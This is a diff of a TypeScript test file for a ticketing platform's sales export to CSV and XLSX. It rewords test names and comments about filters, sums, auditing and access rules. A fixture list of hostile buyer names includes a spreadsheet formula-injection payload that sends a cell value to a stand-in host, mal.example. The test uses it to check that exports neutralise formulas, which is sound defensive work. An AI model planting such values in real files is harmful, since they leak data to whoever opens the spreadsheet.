@@ -46,7 +46,7 @@ const TITLES = [
   ],
 ];
 
-/** Names as nobody has them, and how the file has them. */
+/** Hostile names, and their form in the file. */
 const HOSTILE: [name: string, written: string][] = [
   ['=HYPERLINK("http://mal.example/?"&A1;"clique")', `'=HYPERLINK("http://mal.example/?"&A1;"clique")`],
   ['+5511999999999', "'+5511999999999"],
@@ -60,7 +60,7 @@ const HOSTILE: [name: string, written: string][] = [
 let api: TestApi;
 let show: TestShow;
 let producer: TestPerson;
-/** The codes of the orders, by what became of them. */
+/** Codes of the orders, by status. */
 const codes: Record<string, string> = {};
 
 type Query = Record<string, string>;
@@ -83,7 +83,7 @@ async function exported(
 
 type Sale = Record<string, string>;
 
-/** What a CSV tells, row by row, each cell by its title. */
+/** Returns the rows of a CSV, each cell by its title. */
 async function sales(query: Query = {}): Promise<Sale[]> {
   const { status, bytes } = await exported(query);
   expect(status).toBe(200);
@@ -148,7 +148,7 @@ async function makeSales(): Promise<void> {
   await enterFirst(mixed.order.id);
 }
 
-/** The first ticket of an order enters. */
+/** Admits the first ticket of an order. */
 async function enterFirst(orderId: string): Promise<void> {
   const [ticket] = await api.database.query<{ id: string }>(
     'select id from tickets where order_id = $1 order by position limit 1',
@@ -167,8 +167,8 @@ beforeAll(async () => {
 }, 60_000);
 afterAll(() => api.close());
 
-describe('the export of sales', () => {
-  it('is CSV as Excel in Brazil reads it, in a file with the name of the day there', async () => {
+describe('export of sales', () => {
+  it('an export is CSV as Excel in Brazil reads it, in a file named with the local day', async () => {
     const { status, headers, bytes } = await exported();
     expect(status).toBe(200);
     expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
@@ -184,17 +184,20 @@ describe('the export of sales', () => {
     expect(lines.length - 1).toBe(Number(headers.get(SALES_REPORT_ROWS_HEADER)));
   });
 
-  it('tells of paid sales unless said otherwise, the newest first, and never of courtesies', async () => {
+  it('an export has paid sales by default, the newest first, and never courtesies', async () => {
     const rows = await sales();
     expect(codesOf(rows)).toEqual([codes['pdv'], codes['partly'], codes['mixed'], codes['coupon']]);
   });
 
-  it.each(ORDER_STATUSES.filter((status) => status !== 'paid'))('of %s tells that one', async (status) => {
-    expect(codesOf(await sales({ order_status: status }))).toEqual([codes[status]]);
-    expect(codesOf(await sales({ status }))).toEqual([codes[status]]);
-  });
+  it.each(ORDER_STATUSES.filter((status) => status !== 'paid'))(
+    'an export of %s has that status alone',
+    async (status) => {
+      expect(codesOf(await sales({ order_status: status }))).toEqual([codes[status]]);
+      expect(codesOf(await sales({ status }))).toEqual([codes[status]]);
+    },
+  );
 
-  it('of all tells all, as the list of sales does', async () => {
+  it('an export of all has every status, as the list of sales does', async () => {
     const rows = await sales({ order_status: 'all' });
     const list = await as(api, producer).get(`/api/producer/events/${show.id}/orders?status=all&take=100`).expect(200);
     expect(codesOf(rows)).toEqual((list.body as SalesListView).data.map(({ code }) => code));
@@ -202,7 +205,7 @@ describe('the export of sales', () => {
     expect(rows).toHaveLength(Object.keys(codes).length);
   });
 
-  it('tells what a sale was, what went back and what is left of it for the producer', async () => {
+  it('an export has each sale’s amounts, refunds and what is left of it for the producer', async () => {
     const bySale = Object.fromEntries((await sales({ order_status: 'all' })).map((sale) => [sale['Código'], sale]));
     expect(bySale[codes['coupon'] as string]).toEqual({
       Código: codes['coupon'],
@@ -257,7 +260,7 @@ describe('the export of sales', () => {
     });
   });
 
-  it('has sums that the book has, too', async () => {
+  it('an export’s sums agree with the ledger', async () => {
     const [paid, all] = [await sales(), await sales({ order_status: 'all' })];
     const { online_receipts = 0, till_receipts = 0, convenience_fees = 0 } = await bookOf(api, show);
     expect(sumOf(paid, 'Valor líquido (R$)')).toBe(-online_receipts - till_receipts);
@@ -282,15 +285,18 @@ describe('the export of sales', () => {
       { Nome: BUYER.name, Telefone: BUYER.phone, Evento: 'Arraial da Lua' },
     ],
     [{ name: 'false', phone: 'false', event_name: 'false', email: 'false' }, [], {}],
-  ])('tells with %j what was asked for beside the address, which is always there', async (query, titles, cells) => {
-    const [sale] = await sales({ ...query, order_status: 'refunded' });
-    expect(Object.keys(sale ?? {})).toEqual(
-      TITLES.flatMap((title) => (title === 'E-mail' ? [title, ...titles] : title)),
-    );
-    expect(sale).toMatchObject({ 'E-mail': BUYER.email, ...cells });
-  });
+  ])(
+    'an export with %j adds the requested columns to the e-mail, which is always there',
+    async (query, titles, cells) => {
+      const [sale] = await sales({ ...query, order_status: 'refunded' });
+      expect(Object.keys(sale ?? {})).toEqual(
+        TITLES.flatMap((title) => (title === 'E-mail' ? [title, ...titles] : title)),
+      );
+      expect(sale).toMatchObject({ 'E-mail': BUYER.email, ...cells });
+    },
+  );
 
-  it('narrows as the list does', async () => {
+  it('an export filters as the list does', async () => {
     expect(codesOf(await sales({ sales_type: 'pdv' }))).toEqual([codes['pdv']]);
     expect(codesOf(await sales({ lots: show.lots[1]?.id ?? '' }))).toEqual([codes['mixed']]);
     expect(codesOf(await sales({ query: codes['coupon'] ?? '', filter: 'code' }))).toEqual([codes['coupon']]);
@@ -298,7 +304,7 @@ describe('the export of sales', () => {
     expect((await exported({ query: 'Ninguém' })).headers.get(SALES_REPORT_ROWS_HEADER)).toBe('0');
   });
 
-  it('refuses what it does not know', async () => {
+  it('an export refuses unknown parameters', async () => {
     const unknown: Query[] = [{ format: 'pdf' }, { order_status: 'lost' }, { name: 'yes' }, { document: 'true' }];
     for (const query of unknown) {
       const { status, bytes } = await exported(query);
@@ -306,7 +312,7 @@ describe('the export of sales', () => {
     }
   });
 
-  it('notes who took what along, and nobody’s name', async () => {
+  it('an export is recorded with its person and fields, without anybody’s name', async () => {
     const before = (await auditOf(api, show.id, 'orders:export')).length;
     await exported({ format: 'xlsx', name: 'true', query: 'Bia', order_status: 'all', sales_type: 'online' });
     const entries = await auditOf(api, show.id, 'orders:export');
@@ -328,7 +334,7 @@ describe('the export of sales', () => {
   });
 });
 
-describe('names that mean harm', () => {
+describe('hostile names', () => {
   const written = (query: Query) => sales({ ...query, name: 'true', order_status: 'refunded' });
 
   async function rename(name: string): Promise<void> {
@@ -336,14 +342,14 @@ describe('names that mean harm', () => {
   }
   afterAll(() => rename(BUYER.name));
 
-  it.each(HOSTILE)('%j begins no formula and breaks no line', async (name, harmless) => {
+  it.each(HOSTILE)('the name %j starts no formula and breaks no line', async (name, harmless) => {
     await rename(name);
     expect((await written({})).map((sale) => sale['Nome'])).toEqual([harmless]);
   });
 });
 
-describe('the export as a spreadsheet', () => {
-  it('has the same rows in cells with types', async () => {
+describe('export as a spreadsheet', () => {
+  it('a spreadsheet has the same rows in typed cells', async () => {
     const query = { order_status: 'all', name: 'true', phone: 'true' };
     const { headers, bytes } = await exported({ ...query, format: 'xlsx' });
     expect(headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
@@ -369,7 +375,7 @@ describe('the export as a spreadsheet', () => {
   });
 });
 
-describe('who may not take sales along', () => {
+describe('access to the export', () => {
   async function memberWith(...grants: Grant[]): Promise<TestPerson> {
     const member = await makePerson(api, { roles: ['team-member'] });
     await grant(api, show, member, grants);
@@ -377,14 +383,14 @@ describe('who may not take sales along', () => {
     return member;
   }
 
-  it('a member may with the right to sales, and with no other', async () => {
+  it('an export is for members with the grant of sales, and with no other', async () => {
     const seller = await memberWith('sales');
     expect((await exported({}, seller, 'team-member')).status).toBe(200);
     const others = await memberWith('overview', 'checkins', 'payouts', 'lots', 'coupons');
     expect((await exported({}, others, 'team-member')).status).toBe(403);
   });
 
-  it('a super-admin may; support, sale points, customers and other producers may not', async () => {
+  it('an export is for super-admins, and refused for support, sale points, customers and other producers', async () => {
     const admin = await makePerson(api, { roles: ['super-admin'] });
     expect((await exported({}, admin, 'super-admin')).status).toBe(200);
     const support = await makePerson(api, { roles: ['support'] });
